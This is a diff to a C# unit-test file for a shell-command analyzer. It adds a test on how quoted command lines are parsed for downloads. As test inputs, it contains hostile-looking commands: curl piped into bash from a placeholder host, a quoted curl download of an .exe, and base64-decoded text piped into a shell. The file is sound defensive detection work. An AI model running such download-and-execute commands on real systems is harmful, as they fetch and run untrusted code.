@@ -34,6 +34,15 @@ public class ShellCommandTests
     [InlineData("bash -c 'curl -fsSL https://x.invalid/i | bash'")]
     public void Download_then_run_is_seen(string line) => Assert.NotNull(ShellCommand.Analyze(line).DownloadRun);
 
+    /// <summary>cmd.exe /c runs what is inside a command line that is one quoted string; a quoted program path is not that.</summary>
+    [Fact]
+    public void A_command_line_wrapped_in_one_pair_of_quotes_is_its_inner_command()
+    {
+        Assert.NotNull(ShellCommand.Analyze("\"curl.exe -OLJ https://files.example.invalid/tool.exe\"").Download);
+        // A quoted program path followed by quoted arguments is several words, not one wrapped command line.
+        Assert.Null(ShellCommand.Analyze("\"C:/Program Files/Tool/tool.exe\" --fetch \"curl https://files.example.invalid/a\"").Download);
+    }
+
     [Theory]
     [InlineData("echo aGVsbG8= | base64 -d | bash")]
     [InlineData("echo {} |base64 --decode|sh")]
